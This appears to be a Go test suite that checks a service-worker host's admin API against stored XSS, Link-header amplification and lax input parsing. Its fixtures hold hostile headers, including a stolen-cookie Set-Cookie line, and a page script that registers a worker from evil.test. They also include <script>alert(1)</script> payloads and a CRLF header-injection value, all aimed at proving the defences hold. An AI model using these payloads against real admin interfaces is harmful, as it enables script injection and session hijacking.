package server

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/swhost/swhost/agent"
	"github.com/swhost/swhost/fetch"
	"github.com/swhost/swhost/internal/lockedbuf"
	"github.com/swhost/swhost/network"
	"github.com/swhost/swhost/registry"
	"github.com/swhost/swhost/store"
	"github.com/swhost/swhost/worker"
)

// The attacks of issue 17 that concern what the admin API accepts and
// echoes (stored XSS, amplification, strictness), sent as an attacker
// would: raw HTTP/1.1 requests on a TCP connection to the admin
// listener, against an upstream the attacker controls (evil.test).

// hostileHeaders are the fields a hostile page carries to speak for the
// origin that serves it.
var hostileHeaders = map[string]string{
	"Access-Control-Allow-Origin":      "*",
	"Access-Control-Allow-Credentials": "true",
	"Link":                             `</x.js>; rel="preload"`,
	"Content-Security-Policy":          "script-src 'unsafe-inline'",
	"Refresh":                          "0; url=https://evil.test/",
	"Service-Worker-Allowed":           "/",
	"X-Frame-Options":                  "ALLOWALL",
	"Cross-Origin-Resource-Policy":     "cross-origin",
	"Cross-Origin-Opener-Policy":       "unsafe-none",
	"Strict-Transport-Security":        "max-age=0",
	"Clear-Site-Data":                  `"*"`,
	"Permissions-Policy":               "camera=*",
	"Origin-Agent-Cluster":             "?0",
	"Set-Cookie":                       "admin=stolen; Path=/",
	"Set-Cookie2":                      "admin=stolen",
}

// hostilePage is a page whose script uses the admin API's authority.
const hostilePage = `<!doctype html><script>fetch("/v1/registrations",{method:"POST",body:JSON.stringify({client:"https://evil.test/",script:"/x.js"})})</script>`

// evilSW caches the hostile page with its headers, an SVG with a
// script, a PNG and a JSON document.
var evilSW = func() string {
	hdrs, _ := json.Marshal(func() map[string]string {
		m := map[string]string{"content-type": "text/html; charset=utf-8", "etag": `"v1"`}
		for k, v := range hostileHeaders {
			m[strings.ToLower(k)] = v
		}
		return m
	}())
	page, _ := json.Marshal(hostilePage)
	return `
self.addEventListener('install', e => e.waitUntil(caches.open('pages').then(c => Promise.all([
  c.put('/page.html', new Response(` + string(page) + `, {headers: ` + string(hdrs) + `})),
  c.put('/logo.svg', new Response('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', {headers: {'content-type': 'image/svg+xml'}})),
  c.put('/pixel.png', new Response(new Uint8Array([0x89, 0x50, 0x4e, 0x47]), {headers: {'content-type': 'image/png'}})),
  c.put('/data.json', new Response('{"a": "<script>alert(1)</script>"}', {headers: {'content-type': 'application/json'}})),
]))));
self.addEventListener('fetch', e => console.log('<script>alert(1)</script>\n\ndata: {"forged": true}'));`
}()

// attackFixture is an admin server whose https://evil.test is served by
// the attacker's upstream: /sw.js is evilSW, /hostile a page with
// hostileHeaders, /links a response with 3,000 serviceworker links.
type attackFixture struct {
	srv   *Server
	agent *agent.Agent
	reg   *registry.Registry
	addr  string // the admin listener's host:port
	log   *lockedbuf.Buffer
}

func newAttackFixture(t *testing.T) *attackFixture {
	t.Helper()
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/sw.js", "/x.js":
			w.Header().Set("Content-Type", "text/javascript")
			io.WriteString(w, evilSW)
		case "/hostile":
			for k, v := range hostileHeaders {
				w.Header().Set(k, v)
			}
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, hostilePage)
		case "/links":
			links := make([]string, 3000)
			for i := range links {
				links[i] = fmt.Sprintf(`</x.js?%d>; rel="serviceworker"; scope="/s%d/"`, i, i)
			}
			w.Header().Set("Link", strings.Join(links, ", "))
			io.WriteString(w, "a page")
		default:
			io.WriteString(w, "evil")
		}
	}))
	t.Cleanup(up.Close)
	ctx := context.Background()
	st, err := store.Open(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	lb := &lockedbuf.Buffer{}
	log := slog.New(slog.NewTextHandler(lb, nil))
	nw := &network.Transport{Resolve: map[string]string{"https://evil.test": up.URL, "https://app.test": up.URL}}
	events := NewEvents()
	var ag *agent.Agent
	reg, err := registry.New(ctx, registry.Options{Store: st, Network: nw, Console: events.Console, Logger: log,
		Limits: worker.Limits{IdleTimeout: -1, CPUPerTask: time.Minute}, Environment: agentEnv(&ag)})
	if err != nil {
		t.Fatal(err)
	}
	reg.Subscribe(events.Registry)
	clock := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	ag = agent.New(reg, nw, agent.Options{OnFetch: events.Fetch, Logger: log, Now: func() time.Time { return clock }})
	srv := New(Options{Registry: reg, Agent: ag, Events: events, Logger: log, Admin: AdminOptions{Token: testToken}})
	admin := httptest.NewServer(srv.Handler())
	t.Cleanup(func() { srv.Shutdown(); admin.Close(); ag.Close(); reg.Close(); st.Close() })
	return &attackFixture{srv: srv, agent: ag, reg: reg, addr: strings.TrimPrefix(admin.URL, "http://"), log: lb}
}

// send writes raw, one HTTP/1.1 request, to the admin listener and reads
// the answer's head and, unless stream, its body.
func (f *attackFixture) send(t *testing.T, raw string, stream bool) (*http.Response, []byte) {
	t.Helper()
	conn, err := net.Dial("tcp", f.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// The attacker here holds the admin token (the attacks of this file
	// are on what the API does with its input, not on who may call it).
	if line, rest, ok := strings.Cut(raw, "\r\n"); ok && !strings.Contains(raw, "Authorization:") {
		raw = line + "\r\nAuthorization: Bearer " + testToken + "\r\n" + rest
	}
	if _, err := io.WriteString(conn, raw); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%q: %v", raw, err)
	}
	if stream {
		return resp, nil
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, body
}

// get is a raw GET request for path.
func (f *attackFixture) get(path string) string {
	return "GET " + path + " HTTP/1.1\r\nHost: " + f.addr + "\r\nConnection: close\r\n\r\n"
}

// post is a raw POST request for path with a JSON body.
func (f *attackFixture) post(path, body string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", path, f.addr, len(body), body)
}

// mustStatus fails unless resp has status want.
func mustStatus(t *testing.T, resp *http.Response, body []byte, want int) {
	t.Helper()
	if resp.StatusCode != want {
		t.Fatalf("%s: %s", resp.Status, body)
	}
}

// TestStoredXSS: a worker of evil.test caches an HTML page with a script
// and headers that would speak for the admin origin (CORS, Link, CSP,
// Refresh, ...); the admin API's views of it are inert: the entry is an
// attachment of a type no browser renders as a document, sandboxed,
// nosniff, with none of the stored fields but a few descriptive ones;
// the other views that echo stored or fetched content (entries listing,
// /v1/fetch, the event stream) carry it only inside JSON, under the same
// inert fields.
func TestStoredXSS(t *testing.T) {
	f := newAttackFixture(t)
	resp, body := f.send(t, f.post("/v1/registrations", `{"client":"https://evil.test/","script":"/sw.js"}`), false)
	mustStatus(t, resp, body, http.StatusCreated)
	// Fields a worker cannot store (Set-Cookie) but another writer of
	// the store could: the allow-list does not depend on who wrote.
	cs, err := f.reg.Caches().For("https://evil.test")
	if err != nil {
		t.Fatal(err)
	}
	c, err := cs.Open(context.Background(), "pages")
	if err != nil {
		t.Fatal(err)
	}
	stored := http.Header{"Content-Type": {"text/html"}}
	for k, v := range hostileHeaders {
		stored.Set(k, v)
	}
	if err := c.Put(context.Background(), &fetch.Request{URL: "https://evil.test/direct.html"}, &fetch.Response{Type: fetch.TypeBasic, Status: 200, Header: stored, Body: []byte(hostilePage)}); err != nil {
		t.Fatal(err)
	}

	entry := "/v1/caches/entry?origin=https://evil.test&cache=pages&url="
	tests := []struct {
		name, path       string
		wantType         string
		wantDisposition  string
		wantBody         string
		wantStoredHeader bool
	}{
		{"html page", entry + "https://evil.test/page.html", "application/octet-stream", "attachment", hostilePage, true},
		{"html page asked inline", entry + "https://evil.test/page.html&inline=1", "application/octet-stream", "attachment", hostilePage, true},
		{"page stored directly", entry + "https://evil.test/direct.html&inline=1", "application/octet-stream", "attachment", hostilePage, true},
		{"svg asked inline", entry + "https://evil.test/logo.svg&inline=1", "application/octet-stream", "attachment", "", false},
		{"png", entry + "https://evil.test/pixel.png", "image/png", "attachment", "\x89PNG", false},
		{"png inline", entry + "https://evil.test/pixel.png&inline=1", "image/png", "inline", "\x89PNG", false},
		{"json inline", entry + "https://evil.test/data.json&inline=1", "text/plain; charset=utf-8", "inline", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := f.send(t, f.get(tt.path), false)
			mustStatus(t, resp, body, http.StatusOK)
			checkInert(t, resp)
			if got := resp.Header.Get("Content-Type"); got != tt.wantType {
				t.Errorf("Content-Type %q, want %q", got, tt.wantType)
			}
			if got := resp.Header.Get("Content-Disposition"); got != tt.wantDisposition {
				t.Errorf("Content-Disposition %q, want %q", got, tt.wantDisposition)
			}
			if tt.wantBody != "" && string(body) != tt.wantBody {
				t.Errorf("body %q, want %q", body, tt.wantBody)
			}
			if !tt.wantStoredHeader {
				return
			}
			if got := resp.Header.Get("ETag"); got != `"v1"` && tt.name != "page stored directly" {
				t.Errorf("ETag %q, want the stored one", got)
			}
			var kept map[string][]string
			if err := json.Unmarshal([]byte(resp.Header.Get("X-Swhost-Stored-Headers")), &kept); err != nil {
				t.Fatalf("X-Swhost-Stored-Headers: %v", err)
			}
			if len(kept["access-control-allow-origin"]) != 1 || len(kept["link"]) != 1 || len(kept["content-type"]) != 1 {
				t.Errorf("X-Swhost-Stored-Headers lacks the stored fields: %v", kept)
			}
		})
	}

	// The other views echo the same content, inside JSON.
	resp, body = f.send(t, f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/hostile"}`), false)
	mustStatus(t, resp, body, http.StatusOK)
	for _, v := range []struct{ name, raw string }{
		{"entries listing", f.get("/v1/caches/entries?origin=https://evil.test&cache=pages")},
		{"fetch", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/hostile"}`)},
		{"fetch via the worker", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/page.html"}`)},
	} {
		t.Run(v.name, func(t *testing.T) {
			resp, body := f.send(t, v.raw, false)
			mustStatus(t, resp, body, http.StatusOK)
			checkInert(t, resp)
			if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
				t.Errorf("Content-Type %q", ct)
			}
			if !json.Valid(body) {
				t.Errorf("not JSON: %s", body)
			}
		})
	}
	t.Run("event stream", func(t *testing.T) {
		resp, _ := f.send(t, f.get("/v1/events"), true)
		defer resp.Body.Close()
		checkInert(t, resp)
		if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
			t.Errorf("Content-Type %q", ct)
		}
		// The console message with a script and a forged event is one
		// JSON data line.
		sc := bufio.NewScanner(resp.Body)
		for sc.Scan() {
			line := sc.Text()
			if strings.HasPrefix(line, `data: {"forged"`) {
				t.Fatalf("a worker forged an event: %q", line)
			}
			if strings.Contains(line, `"console"`) {
				if strings.Contains(line, "<script>") {
					t.Errorf("HTML in the event stream unescaped: %q", line)
				}
				return
			}
		}
		t.Error("no console event")
	})
}

// checkInert checks the admin response's own fields: the inert ones set,
// none of the hostile ones.
func checkInert(t *testing.T, resp *http.Response) {
	t.Helper()
	for k, want := range map[string]string{
		"X-Content-Type-Options":       "nosniff",
		"Content-Security-Policy":      "sandbox",
		"Cross-Origin-Resource-Policy": "same-origin",
		"Cache-Control":                "no-store",
		"X-Frame-Options":              "DENY", // the admin listener's own
	} {
		if got := resp.Header.Values(k); len(got) != 1 || got[0] != want {
			t.Errorf("%s: %q, want %q", k, got, want)
		}
	}
	for k := range hostileHeaders {
		if k == "Content-Security-Policy" || k == "Cross-Origin-Resource-Policy" || k == "X-Frame-Options" {
			continue // checked above: ours, not the stored one
		}
		if v := resp.Header.Values(k); len(v) > 0 {
			t.Errorf("the admin response replays %s: %q", k, v)
		}
	}
	if ct := resp.Header.Get("Content-Type"); strings.Contains(ct, "html") || strings.Contains(ct, "svg") || strings.Contains(ct, "xml") {
		t.Errorf("Content-Type %q renders as a document", ct)
	}
}

// TestAmplification: one response carrying 3,000 Link entries, fetched
// through the admin API, registers at most the cap (4), and the refusal
// is logged once with the numbers.
func TestAmplification(t *testing.T) {
	f := newAttackFixture(t)
	resp, body := f.send(t, f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/links"}`), false)
	mustStatus(t, resp, body, http.StatusOK)
	f.agent.Wait()
	resp, body = f.send(t, f.get("/v1/registrations?origin=https://evil.test"), false)
	mustStatus(t, resp, body, http.StatusOK)
	var regs []json.RawMessage
	if err := json.Unmarshal(body, &regs); err != nil {
		t.Fatal(err)
	}
	if len(regs) != agent.DefaultMaxLinksPerHeader {
		t.Errorf("%d registrations from one response, want %d", len(regs), agent.DefaultMaxLinksPerHeader)
	}
	lines := f.log.Lines("too many serviceworker links")
	if len(lines) != 1 || !strings.Contains(lines[0], "links=3000") || !strings.Contains(lines[0], "refused=2996") {
		t.Errorf("refusal logged %d times, want once with the numbers: %q", len(lines), lines)
	}
	if n := len(f.log.Lines("Link header")); n > 1+agent.DefaultMaxLinksPerHeader {
		t.Errorf("%d log lines about Link headers for one response", n)
	}
}

// TestStrictInput: request bodies and query parameters that encoding/json
// or a lax handler would take are refused with 400 TypeError naming the
// field, and change nothing.
func TestStrictInput(t *testing.T) {
	f := newAttackFixture(t)
	resp, body := f.send(t, f.post("/v1/registrations", `{"client":"https://app.test/","script":"/sw.js"}`), false)
	mustStatus(t, resp, body, http.StatusCreated)
	var reg struct{ ID int64 }
	json.Unmarshal(body, &reg)
	stop := fmt.Sprintf("/v1/registrations/%d/stop", reg.ID)
	const reg1 = `{"client":"https://evil.test/","script":"/sw.js"`
	tests := []struct {
		name, raw string
		wantMsg   string
	}{
		{"trailing garbage", f.post("/v1/registrations", reg1+`}garbage`), "data after the JSON object"},
		{"a second value", f.post("/v1/registrations", reg1+`}{"client":"https://evil.test/","script":"/x.js"}`), "data after the JSON object"},
		{"scope a number", f.post("/v1/registrations", reg1+`,"scope":5}`), "field scope: want a scope URL (a string) or a URL pattern (an object), got a number"},
		{"scope an array", f.post("/v1/registrations", reg1+`,"scope":["/"]}`), "field scope:"},
		{"scope null", f.post("/v1/registrations", reg1+`,"scope":null}`), "field scope: null is not allowed"},
		{"client a number", f.post("/v1/registrations", `{"client":5,"script":"/sw.js"}`), "field client: want a string, got number"},
		{"client missing", f.post("/v1/registrations", `{"script":"/sw.js"}`), "field client: required"},
		{"field in another case", f.post("/v1/registrations", reg1+`,"Scope":"/"}`), "field Scope: unknown field"},
		{"unknown field", f.post("/v1/registrations", reg1+`,"scopes":"/"}`), "field scopes: unknown field"},
		{"field twice", f.post("/v1/registrations", reg1+`,"script":"/x.js"}`), "field script: given more than once"},
		{"unknown type", f.post("/v1/registrations", reg1+`,"type":"shared"}`), `field type: "shared" is not one of classic, module`},
		{"unknown updateViaCache", f.post("/v1/registrations", reg1+`,"updateViaCache":"sometimes"}`), "field updateViaCache:"},
		{"not an object", f.post("/v1/registrations", `["https://evil.test/","/sw.js"]`), "want an object, got an array"},
		{"truncated", f.post("/v1/registrations", reg1), "unexpected end"},
		{"mode websocket", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/","mode":"websocket"}`), `field mode: "websocket" is not one of navigate, same-origin, no-cors, cors`},
		{"method not a token", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/","method":"GET /admin"}`), "field method:"},
		{"forbidden method", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/","method":"trace"}`), "field method: TRACE is a forbidden method"},
		{"header value a number", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/","headers":{"x-a":5}}`), "field headers: want a string, got number"},
		{"header name with a space", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/","headers":{"x a":"1"}}`), "field headers:"},
		{"header value with CRLF", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/","headers":{"x-a":"1\r\nx-b: 2"}}`), "field headers:"},
		{"fetch trailing garbage", f.post("/v1/fetch", `{"client":"https://evil.test/","url":"https://evil.test/"} x`), "data after the JSON object"},
		{"body on stop", f.post(stop, `{"force":true}`), "field force: unknown field"},
		{"inline not 0 or 1", f.get("/v1/caches/entry?origin=https://app.test&cache=v1&url=https://app.test/&inline=yes"), "query parameter inline"},
		{"origin twice", f.get("/v1/registrations?origin=https://a.test&origin=https://b.test"), "query parameter origin: given 2 times"},
		{"replay not 0 or 1", f.get("/v1/events?replay=maybe"), "query parameter replay"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, _ := f.send(t, tt.raw, true)
			defer resp.Body.Close()
			if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
				t.Fatalf("%s %s, want 400 TypeError with %q", resp.Status, ct, tt.wantMsg) // an event stream would not end
			}
			body, _ := io.ReadAll(resp.Body)
			var e apiError
			if err := json.Unmarshal(body, &e); err != nil || resp.StatusCode != http.StatusBadRequest || e.Error != "TypeError" || !strings.Contains(e.Message, tt.wantMsg) {
				t.Errorf("%s %s, want 400 TypeError with %q", resp.Status, body, tt.wantMsg)
			}
		})
	}
	f.agent.Wait()
	if regs := f.reg.Registrations("https://evil.test"); len(regs) != 0 {
		t.Errorf("refused requests registered %d workers (%s)", len(regs), regs[0].ScopeText())
	}
}
